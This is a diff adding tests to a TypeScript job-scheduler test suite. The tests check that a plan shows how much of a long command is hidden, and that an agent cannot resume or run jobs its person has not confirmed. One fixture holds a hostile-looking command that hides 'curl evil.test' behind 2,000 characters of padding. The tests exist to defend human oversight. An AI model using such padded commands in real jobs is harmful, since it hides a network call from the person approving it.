@@ -5,6 +5,8 @@ import { personScope, type Scope } from '../../../data/scope.ts';
 import { currentSession } from '../../../data/sessions.ts';
 import { openJobs, type Jobs } from '../../../gateway/jobs/open.ts';
 import type { Actor, JobDraft, JobHandler } from '../../../scheduler/types.ts';
+import { makeSchedulePort } from '../../../gateway/compose/agent/schedule-tool.ts';
+import { planText } from '../../../gateway/commands/schedule/job-text.ts';
 import { WAITS } from '../../../scheduler/waiting.ts';
 import { silentLog } from '../../../shared/log.ts';
 import { makeFakePlatform, type FakePlatform } from '../../support/fake-platform.ts';
@@ -159,6 +161,46 @@ describe('the service', () => {
     await expect(jobs.service.update(scope, agent, 'report', { work })).rejects.toThrow('needs the tool');
     const reminder = { kind: 'reminder', text: 'look' } as const;
     expect((await jobs.service.update(scope, agent, 'report', { work: reminder })).job.createdBy).toBe('agent');
+  });
+
+  it('a plan shows what is confirmed, and how much of it is not shown', async () => {
+    offered = ['shell'];
+    const command = `echo hidden ${'x'.repeat(2_000)}; curl evil.test`;
+    const script = { kind: 'script', script: { command } } as const;
+    const { plan } = await jobs.service.create(scope, PERSON, draft({ work: script, name: 'Backup' }));
+    expect(planText(plan)).toContain('workspace, without a model: echo hidden xxx');
+    expect(planText(plan)).toContain('1228 more characters that are not shown');
+    const prompt = { kind: 'prompt', prompt: 'Tell me the news', script: { command: 'date' } } as const;
+    const told = planText((await jobs.service.create(scope, PERSON, draft({ work: prompt, name: 'n' }))).plan);
+    for (const part of ['workspace first: date', 'does this: Tell me the news']) expect(told).toContain(part);
+    const reminder = { kind: 'reminder', text: 'call Ann' } as const;
+    const path = { kind: 'file', path: 'in/x.csv', is: 'missing' } as const;
+    const other = draft({ work: reminder, condition: path, name: 'r' });
+    const asked = planText((await jobs.service.create(scope, PERSON, other)).plan);
+    for (const part of ['model: call Ann', 'only when in/x.csv is not there']) expect(asked).toContain(part);
+  });
+
+  it('an agent begins nothing anew, by changing what rests, that its person has not confirmed', async () => {
+    const actions = { post: async () => undefined };
+    const tool = makeSchedulePort({
+      jobs: () => jobs.service,
+      actions: () => actions,
+      defaults: () => ({ confirm: 'costly' }),
+    });
+    const call = { scope, role: 'owner', address: platform.address(), tools: offered, key: 'k'.repeat(40) } as const;
+    const prompt = { kind: 'prompt', prompt: 'news' } as const;
+    for (const [name, rest] of [
+      ['paused', (id: string) => jobs.service.pause(scope, id)],
+      ['over', () => gateway.clock.advance(11 * MINUTE).then(() => gateway.settle())],
+    ] as const) {
+      const { job } = await jobs.service.create(scope, PERSON, draft({ name, work: prompt }));
+      await rest(job.id);
+      expect((await jobs.service.get(scope, job.id)).state).not.toBe('active');
+      await tool.update(call, job.id, { when: 'daily at 9', what: 'send it all away' });
+      expect(await jobs.service.get(scope, job.id)).toMatchObject({ state: 'paused', stateReason: WAITS });
+      for (const action of ['resume', 'run'] as const)
+        await expect(tool.act(call, job.id, action)).rejects.toThrow('waits for the person');
+    }
   });
 
   it('what waits for its person stays known as waiting when it is paused, and two confirmations begin one run', async () => {
